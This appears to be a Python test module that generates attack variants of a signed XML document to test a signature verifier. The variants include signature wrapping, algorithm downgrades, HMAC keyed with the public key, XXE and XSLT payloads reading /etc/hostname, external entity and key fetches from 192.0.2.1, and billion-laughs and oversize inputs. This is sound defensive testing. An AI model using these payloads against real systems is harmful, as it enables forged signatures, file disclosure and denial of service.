"""Attack files, made from a document that was signed in earnest: each moves, doubles or swaps something.

The numbers of the wrapping attacks are those of Somorovsky and others, "On Breaking SAML" (2012).
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Callable
from copy import deepcopy

from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree
from signxml.algorithms import SignatureMethod
from signxml.signer import XMLSigner

from tests.signing.xml.documents import DECISION, GAINED, NS

DS = "{http://www.w3.org/2000/09/xmldsig#}"
Element = etree._Element
Attack = Callable[[bytes], bytes]


def taken_apart(signed: bytes) -> tuple[Element, Element, Element]:
    """The document without its signature, the signature, and a copy of the document that says something else."""
    original = etree.fromstring(signed)
    signature = original.find(f"{DS}Signature")
    assert signature is not None
    original.remove(signature)
    return original, signature, _made_evil(deepcopy(original))


def _made_evil(root: Element) -> Element:
    amount = root.find(f"{{{NS}}}amount")
    assert amount is not None
    amount.text = GAINED
    return root


def _other_id(node: Element) -> Element:
    node.set("Id", "evil")
    return node


def _around(*children: Element) -> bytes:
    around = etree.Element(f"{{{NS}}}envelope")
    around.extend(children)
    return etree.tostring(around)


def _inside(tag: str, node: Element) -> Element:
    holder = etree.Element(tag)
    holder.append(node)
    return holder


# --- wrapping


def wrapping_1(signed: bytes) -> bytes:
    """The evil document carries the signature, and the signature carries the old one."""
    original, signature, evil = taken_apart(signed)
    signature.append(_inside(f"{DS}Object", original))
    _other_id(evil).append(signature)
    return etree.tostring(evil)


def wrapping_2(signed: bytes) -> bytes:
    """The evil document carries the old one and the signature side by side."""
    original, signature, evil = taken_apart(signed)
    _other_id(evil).extend([original, signature])
    return etree.tostring(evil)


def wrapping_3(signed: bytes) -> bytes:
    """The evil document stands before the old one, which keeps its signature."""
    original, signature, evil = taken_apart(signed)
    original.append(signature)
    return _around(_other_id(evil), original)


def wrapping_4(signed: bytes) -> bytes:
    """The evil document contains the old one, which keeps its signature."""
    original, signature, evil = taken_apart(signed)
    original.append(signature)
    _other_id(evil).append(original)
    return etree.tostring(evil)


def wrapping_5(signed: bytes) -> bytes:
    """The evil document takes the signature; the old one stands at the end."""
    original, signature, evil = taken_apart(signed)
    _other_id(evil).append(signature)
    return _around(evil, original)


def wrapping_6(signed: bytes) -> bytes:
    """The evil document takes the signature, and the signature swallows the old one."""
    original, signature, evil = taken_apart(signed)
    signature.append(original)
    _other_id(evil).append(signature)
    return _around(evil)


def wrapping_7(signed: bytes) -> bytes:
    """An extension before the old document holds an evil one of the same Id."""
    original, signature, evil = taken_apart(signed)
    original.append(signature)
    return _around(_inside(f"{{{NS}}}extensions", evil), original)


def wrapping_8(signed: bytes) -> bytes:
    """The signature carries an object in which an extension holds the old document."""
    original, signature, evil = taken_apart(signed)
    signature.append(_inside(f"{DS}Object", _inside(f"{{{NS}}}extensions", original)))
    _other_id(evil).append(signature)
    return etree.tostring(evil)


WRAPPINGS: tuple[Attack, ...] = (
    wrapping_1, wrapping_2, wrapping_3, wrapping_4, wrapping_5, wrapping_6, wrapping_7, wrapping_8,
)  # fmt: skip


# --- what was signed is changed


def _replaced(old: str, new: str) -> Attack:
    def attack(signed: bytes) -> bytes:
        assert old.encode() in signed
        return signed.replace(old.encode(), new.encode(), 1)

    return attack


CHANGES: dict[str, Attack] = {
    "text": _replaced("Lê Văn An", "Lê Văn Anh"),
    "attribute": _replaced('year="2026"', 'year="2025"'),
    "whitespace": _replaced("<to>Lê", "<to> Lê"),
    "composed otherwise": _replaced("Lê", "Le\u0302"),
    "name space": _replaced("urn:motcua:test:unused", "urn:motcua:test:others"),
    "element added": _replaced("</to>", "</to><to>Kẻ gian</to>"),
    "claimed time": _replaced("SigningTime>2026", "SigningTime>2025"),
}


# --- the signature says how it wants to be checked


def _at(path: str, change: Callable[[Element], None]) -> Attack:
    def attack(signed: bytes) -> bytes:
        root = etree.fromstring(signed)
        found = root.find(f".//{DS}Signature/{path}") if path else root.find(f".//{DS}Signature")
        assert found is not None
        change(found)
        return etree.tostring(root)

    return attack


def _algorithm(path: str, name: str) -> Attack:
    return _at(path, lambda node: node.set("Algorithm", name))


def _transform(name: str, inner: str = "") -> Attack:
    def add(transforms: Element) -> None:
        added = etree.SubElement(transforms, f"{DS}Transform", Algorithm=name)
        if inner:
            added.append(etree.fromstring(inner))

    return _at(f"{DS}SignedInfo/{DS}Reference/{DS}Transforms", add)


_OLD = "http://www.w3.org/2000/09/xmldsig#"
_MORE = "http://www.w3.org/2001/04/xmldsig-more#"
_XPATH = f'<XPath xmlns="{_OLD}">not(ancestor-or-self::*[local-name()="amount"])</XPath>'
_STYLE = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    "<xsl:value-of select=\"document('file:///etc/hostname')\"/></xsl:template></xsl:stylesheet>"
)
_METHOD, _DIGEST = f"{DS}SignedInfo/{DS}SignatureMethod", f"{DS}SignedInfo/{DS}Reference/{DS}DigestMethod"
_CANONICAL = f"{DS}SignedInfo/{DS}CanonicalizationMethod"

ALGORITHMS: dict[str, Attack] = {
    "SHA-1": _algorithm(_METHOD, f"{_OLD}rsa-sha1"),
    "SHA-1 digest": _algorithm(_DIGEST, f"{_OLD}sha1"),
    "MD5": _algorithm(_METHOD, f"{_MORE}rsa-md5"),
    "MD5 digest": _algorithm(_DIGEST, f"{_MORE}md5"),
    "DSA": _algorithm(_METHOD, "http://www.w3.org/2009/xmldsig11#dsa-sha256"),
    "HMAC": _algorithm(_METHOD, f"{_MORE}hmac-sha256"),
    "none": _algorithm(_METHOD, "none"),
    "no name": _at(_METHOD, lambda node: node.attrib.clear()),
    "canonical with comments": _algorithm(_CANONICAL, "http://www.w3.org/2006/12/xml-c14n11#WithComments"),
    "exclusive canonical form": _algorithm(_CANONICAL, "http://www.w3.org/2001/10/xml-exc-c14n#"),
}
TRANSFORMS: dict[str, Attack] = {
    "XPath": _transform("http://www.w3.org/TR/1999/REC-xpath-19991116", _XPATH),
    "XPath filter 2": _transform("http://www.w3.org/2002/06/xmldsig-filter2", _XPATH),
    "XSLT": _transform("http://www.w3.org/TR/1999/REC-xslt-19991116", _STYLE),
    "base64": _transform(f"{_OLD}base64"),
    "a second time": _transform(f"{_OLD}enveloped-signature"),
    "unknown": _transform("urn:motcua:test:anything"),
}


def _points_to(uri: str | None) -> Attack:
    def change(reference: Element) -> None:
        reference.attrib.pop("URI")
        if uri is not None:
            reference.set("URI", uri)

    return _at(f"{DS}SignedInfo/{DS}Reference", change)


def _without_references(info: Element) -> None:
    for reference in info.findall(f"{DS}Reference"):
        info.remove(reference)


REFERENCES: dict[str, Attack] = {
    "a part only": lambda signed: _points_to("#part")(signed.replace(b"<to>", b'<to Id="part">')),
    "nothing": _points_to(None),
    "a file": _points_to("file:///etc/hostname"),
    "another site": _points_to("http://192.0.2.1/decision.xml"),
    "an expression": _points_to("#xpointer(/)"),
    "nobody": _points_to("#nobody"),
    "none at all": _at(f"{DS}SignedInfo", _without_references),
}


# --- whose key it is


def _key_info(*children: str) -> Attack:
    def change(info: Element) -> None:
        info[:] = [etree.fromstring(f'<around xmlns="{_OLD}">{child}</around>')[0] for child in children]

    return _at(f"{DS}KeyInfo", change)


def _kept_and(child: str) -> Attack:
    def change(info: Element) -> None:
        info.append(etree.fromstring(f'<around xmlns="{_OLD}">{child}</around>')[0])

    return _at(f"{DS}KeyInfo", change)


def _twice(info: Element) -> None:
    data = info[0]
    data.append(deepcopy(data[0]))


_VALUE = "<KeyValue><RSAKeyValue><Modulus>AQAB</Modulus><Exponent>AQAB</Exponent></RSAKeyValue></KeyValue>"
_FETCHED = (
    '<RetrievalMethod URI="http://192.0.2.1/key.cer" Type="http://www.w3.org/2000/09/xmldsig#rawX509Certificate"/>'
)
KEYS: dict[str, Attack] = {
    "two certificates": _at(f"{DS}KeyInfo", _twice),
    "two sets of certificates": _at(f"{DS}KeyInfo", lambda info: info.append(deepcopy(info[0]))),
    "a bare key": _key_info(_VALUE),
    "a bare key beside the certificate": _kept_and(_VALUE),
    "a key to be fetched": _key_info(_FETCHED),
    "a key to be fetched beside the certificate": _kept_and(_FETCHED),
    "a name": _key_info("<KeyName>UBND</KeyName>"),
    "nothing": _key_info(),
    "no certificate": _key_info("<X509Data><X509SubjectName>CN=UBND</X509SubjectName></X509Data>"),
    "rubbish": _key_info("<X509Data><X509Certificate>AAAA</X509Certificate></X509Data>"),
    "no base64": _key_info("<X509Data><X509Certificate>é!</X509Certificate></X509Data>"),
}


def duplicate_id(signed: bytes) -> bytes:
    """Another element of the Id that was signed."""
    return signed.replace(b"<to>", b'<to Id="decision">')


def the_same_id_in_other_letters(signed: bytes) -> bytes:
    """The same again, for readers who look for another spelling of the attribute."""
    return signed.replace(b"<to>", b'<to ID="decision">')


def hmac_with_the_public_key(certificate: bytes) -> bytes:
    """A "signature" that everybody can make: keyed by the public key, for verifiers who let the document choose."""
    public = x509.load_der_x509_certificate(certificate).public_key()
    key = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    signed = XMLSigner(signature_algorithm=SignatureMethod.HMAC_SHA256).sign(
        _made_evil(etree.fromstring(DECISION)), key=key
    )
    info = etree.fromstring(f'<KeyInfo xmlns="{_OLD}"><X509Data/></KeyInfo>')
    signed[-1].append(info)
    etree.SubElement(info[0], f"{DS}X509Certificate").text = b64encode(certificate).decode()
    return etree.tostring(signed)


# --- the file itself

_HEAD = re.compile(rb"^<\?xml.*?\?>\s*")
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _with_prolog(prolog: str) -> Attack:
    return lambda signed: prolog.encode() + _HEAD.sub(b"", signed)


FILES: dict[str, Attack] = {
    "document type": _with_prolog("<!DOCTYPE decision>"),
    "laughs": _with_prolog(f'<!DOCTYPE decision [<!ENTITY l0 "ha">{_LAUGHS}]>'),
    "laughs after comments": _with_prolog(f'<!-- a --> <?b c?>\n<!DOCTYPE decision [<!ENTITY l0 "ha">{_LAUGHS}]>'),
    "outside entity": lambda signed: _with_prolog('<!DOCTYPE decision [<!ENTITY x SYSTEM "file:///etc/hostname">]>')(
        signed.replace(b"An</to>", b"An&x;</to>")
    ),
    "parameter entity": _with_prolog('<!DOCTYPE decision [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>'),
    "style sheet": _with_prolog('<?xml-stylesheet href="http://192.0.2.1/x.xsl" type="text/xsl"?>'),
    "UTF-16": lambda signed: signed.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    "UTF-7": _with_prolog('<?xml version="1.0" encoding="UTF-7"?>'),
    "lying encoding": _with_prolog('<?xml version="1.0" encoding="ISO-8859-1"?>'),
    "broken UTF-8": lambda signed: signed.replace("Lê".encode(), b"L\xea"),
    "deep": lambda signed: signed.replace(b"<to>", b"<to>" * 10_000).replace(b"</to>", b"</to>" * 10_000),
    "wide": lambda signed: signed.replace(b"<to>", b"<x/>" * 500_000 + b"<to>"),
    "many attributes": lambda signed: signed.replace(
        b"<to>", b"<to " + b" ".join(b'a%d="1"' % n for n in range(500_000)) + b">"
    ),
    "long": lambda signed: signed.replace(b"<to>", b"<to>" + b"a" * (11 * 1024 * 1024)),
    "cut off": lambda signed: signed[: len(signed) // 2],
    "empty": lambda _signed: b"",
    "no XML": lambda _signed: b"%PDF-1.7",
    "zero byte": lambda signed: signed.replace(b"<to>", b"<to>\0"),
}
